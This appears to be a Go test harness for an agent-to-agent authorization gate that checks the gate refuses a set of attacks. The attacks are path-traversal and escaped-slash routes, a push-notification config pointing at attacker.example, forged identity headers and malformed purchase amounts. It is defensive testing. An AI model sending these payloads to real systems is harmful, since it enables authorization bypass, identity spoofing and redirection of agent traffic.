package demo

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/warden-a2a/warden/internal/gate"
	"github.com/warden-a2a/warden/internal/truststate"
	"github.com/warden-a2a/warden/sdk"
)

// The attack rows of issue 13 ("close every fail-open path"): the gate judges exactly
// what the agent executes (parser differentials, typed business parameters), the
// identity the agent reads cannot be removed or forged, and a review hold holds.

// callerLog records, per decision id, the caller vendor-portal's agent read with
// sdk.VerifiedCaller (or why it could not).
type callerLog struct {
	mu         sync.Mutex
	byDecision map[string]string
}

func (l *callerLog) observe(r *http.Request) {
	who := "no verified caller"
	if id, err := sdk.VerifiedCaller(r); err == nil {
		who = id.String()
	} else {
		who = err.Error()
	}
	l.mu.Lock()
	l.byDecision[r.Header.Get(gate.HeaderDecisionID)] = who
	l.mu.Unlock()
}

func (l *callerLog) get(decisionID string) (string, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	who, ok := l.byDecision[decisionID]
	return who, ok
}

// refusedWith records a row expected to be refused with code: a refusal for any other
// reason is shown as "deny:<code>" so the report is not OK.
func (g *gateEnv) refusedWith(s Step, r CallResult, code string) {
	s.Observed, s.Reason, s.DecisionID = r.Observed, r.Reason, r.DecisionID
	if r.Observed == "deny" && r.Code != code {
		s.Observed = "deny:" + r.Code
		s.Reason = "refused, but not " + code + ": " + r.Reason
	}
	g.record(s)
}

// rawCall sends body to vendor-portal's gate as procurement with a fresh intent for in,
// on method and the escaped path, with extra header fields as given.
func (g *gateEnv) rawCall(ctx context.Context, s *Step, in sdk.Intent, method, path string, header http.Header, body []byte, note string) (CallResult, bool) {
	conf, tok, ok := g.prepare(s, "procurement", in, body, note)
	if !ok {
		return CallResult{}, false
	}
	return CallGatePath(ctx, conf, g.inbound.Addr, method, path, header, body, tok), true
}

// pushConfigBody is a JSON-RPC CreateTaskPushNotificationConfig call: it would make the
// agent call an address of the caller's choosing.
var pushConfigBody = []byte(`{"jsonrpc":"2.0","id":"7","method":"CreateTaskPushNotificationConfig","params":{"taskId":"t1","url":"https://attacker.example/hook"}}`)

// gateParserDifferential: requests that mean one thing to a path-suffix classifier and
// another to the agent. vendor-portal's agent serves JSON-RPC on every path (a2a-go's
// NewJSONRPCHandler mounted at the root), so a push-config body POSTed to
// /message:send would be judged SendMessage and run as CreateTaskPushNotificationConfig.
func gateParserDifferential(ctx context.Context, g *gateEnv) {
	for _, c := range []struct{ name, method, path string }{
		{"gate: push-config JSON-RPC body POSTed to the SendMessage route /message:send", http.MethodPost, "/message:send"},
		{"gate: route with an escaped slash (/tasks/t1%2FpushNotificationConfigs)", http.MethodPost, "/tasks/t1%2FpushNotificationConfigs"},
		{"gate: route with an escaped dot-dot (/%2e%2e/message:send)", http.MethodPost, "/%2e%2e/message:send"},
	} {
		s := Step{Name: c.name, Kind: "attack", Expected: "deny"}
		r, ok := g.rawCall(ctx, &s, poIntent(g.vendorID), c.method, c.path, nil, pushConfigBody,
			"# ... with the push-config body.json POSTed to https://"+g.inbound.Addr+c.path)
		if ok {
			g.refusedWith(s, r, gate.ReasonUnknownMethod)
		}
	}
}

// ParamAttackMeta are the purchase-order metadata of the business-parameter attacks:
// each used to read as amount 0 (no approval needed); each is refused invalid_request.
func ParamAttackMeta() []struct {
	Name string
	Meta map[string]any
} {
	return []struct {
		Name string
		Meta map[string]any
	}{
		{`amount as a string "60000"`, map[string]any{"warden.amount": "60000", "warden.currency": "EUR"}},
		{"amount 1e300", map[string]any{"warden.amount": json.Number("1e300"), "warden.currency": "EUR"}},
		{"amount 9007199254740993 (a double rounds it)", map[string]any{"warden.amount": json.Number("9007199254740993"), "warden.currency": "EUR"}},
		{"negative amount -60000", map[string]any{"warden.amount": -60000, "warden.currency": "EUR"}},
		{"amount missing", map[string]any{"warden.currency": "EUR"}},
	}
}

// gateBusinessParams: purchase orders whose amount the gate used to read as 0.
func gateBusinessParams(ctx context.Context, g *gateEnv) {
	for _, c := range ParamAttackMeta() {
		s := Step{Name: "gate: purchase order with " + c.Name, Kind: "attack", Expected: "deny"}
		meta := map[string]any{"warden.action": "purchase_order.create", "warden.resource": "Order/PO-1002"}
		for k, v := range c.Meta {
			meta[k] = v
		}
		body := RPCMessage("PO-1002", meta)
		r, ok := g.rawCall(ctx, &s, poIntent(g.vendorID), http.MethodPost, "/", nil, body, "# body.json: metadata "+string(mustJSON(c.Meta)))
		if ok {
			g.refusedWith(s, r, gate.ReasonInvalidRequest)
		}
	}
}

func mustJSON(v any) []byte { b, _ := json.Marshal(v); return b }

// gateIdentityHeaders: the caller tries to strip or forge the identity vendor-portal's
// agent reads. The row is a refusal when the agent read exactly the verified caller.
func gateIdentityHeaders(ctx context.Context, g *gateEnv) {
	for _, c := range []struct {
		name   string
		header http.Header
	}{
		{"gate: Connection: Warden-Peer-Id (strip the caller's identity on the way to the agent)", http.Header{"Connection": {"Warden-Peer-Id, Warden-Decision-Id"}}},
		{"gate: Warden_Peer_Id: payment-release (a CGI/WSGI agent reads HTTP_WARDEN_PEER_ID)", http.Header{"Warden_Peer_Id": {g.ID("payment-release").String()}}},
	} {
		s := Step{Name: c.name, Kind: "attack", Expected: "deny"}
		body := RPCMessage("PO-1003", map[string]any{"warden.amount": 4800, "warden.currency": "EUR"})
		var hs []string
		for k, v := range c.header {
			hs = append(hs, "-H '"+k+": "+strings.Join(v, ", ")+"'")
		}
		r, ok := g.rawCall(ctx, &s, poIntent(g.vendorID), http.MethodPost, "/", c.header, body, "# ... with "+strings.Join(hs, " "))
		if !ok {
			continue
		}
		who, seen := g.seen.get(r.DecisionID)
		want := g.ID("procurement").String()
		switch {
		case r.Observed != "allow":
			s.Observed, s.Reason, s.DecisionID = "deny:"+r.Code, "the call itself was refused, so the header proves nothing: "+r.Reason, r.DecisionID
		case !seen:
			s.Observed, s.Reason, s.DecisionID = "allow", "the agent saw no call for decision "+r.DecisionID, r.DecisionID
		case who != want:
			s.Observed, s.Reason, s.DecisionID = "allow", "the agent read the caller as "+who, r.DecisionID
		default:
			s.Observed, s.DecisionID = "deny", r.DecisionID
			s.Reason = "vendor-portal's agent read sdk.VerifiedCaller = " + who + ": the gate set Warden-Peer-Id after hop-by-hop removal and dropped every other spelling"
		}
		g.record(s)
	}
}

// reviewHold: logistics is held for review since its tampered binary was caught
// (tamperedEventDriven) and its enroll --watch stopped. It ignores the next challenge;
// the trust state keeps its contraindicated result, and vendor-portal's gate refuses
// its write (agent_under_review).
func reviewHold(ctx context.Context, e *env) {
	s := Step{Name: "logistics, held for review, ignores the next challenge and writes to vendor-portal", Kind: "attack", Expected: "deny"}
	a, err := e.agent("logistics")
	if err != nil || e.vendorGate == "" {
		s.Observed, s.Reason = "deny:setup", fmt.Sprintf("logistics %v, vendor-portal's gate %q", err, e.vendorGate)
		e.record(s)
		return
	}
	id := a.ID.String()
	before, _ := e.TrustState(ctx)
	held := before != nil && before.Status(id) == truststate.StatusReview
	var doc *truststate.Document
	if held {
		_, doc, err = e.ChangeAndWatch(ctx, 30*time.Second, func() error {
			r := e.Admin(ctx, "attest", "challenge", "--id", id, "--reason", "admin")
			s.Command = r.Command
			return r.Err
		}, func(d *truststate.Document) bool {
			_, pending := d.Challenges[id]
			return d.Version > before.Version && !pending
		})
	}
	switch {
	case !held:
		s.Observed, s.Reason = "deny:setup", "logistics is not held for review"
	case err != nil:
		s.Observed, s.Reason = "deny:setup", err.Error()
	case doc.Attestations[id].Tier != "contraindicated" || doc.Status(id) != truststate.StatusReview:
		s.Observed, s.Reason = "allow", fmt.Sprintf("after the ignored challenge: status %s, attestation %+v", doc.Status(id), doc.Attestations[id])
	default:
		in := sdk.Intent{Audience: e.ID("vendor-portal").String(), Action: "shipment.reroute", Resource: "Shipment/SH-7"}
		r := CallAs(ctx, a, e.vendorGate, in, RPCMessage("reroute SH-7", nil))
		s.Command = commands(s.Command, curlCommand(e.Stack, a, e.vendorGate, in))
		s.Observed, s.Reason, s.DecisionID = r.Observed, r.Reason, r.DecisionID
		if r.Observed == "deny" && r.Code != gate.ReasonAgentUnderReview {
			s.Observed, s.Reason = "deny:"+r.Code, "refused, but not "+gate.ReasonAgentUnderReview+": "+r.Reason
		} else if r.Observed == "deny" {
			s.Reason = fmt.Sprintf("%s (trust state v%d kept tier %s, result %s, through the ignored challenge)", r.Reason, doc.Version, doc.Attestations[id].Tier, doc.Attestations[id].ResultID)
		}
	}
	e.record(s)
}
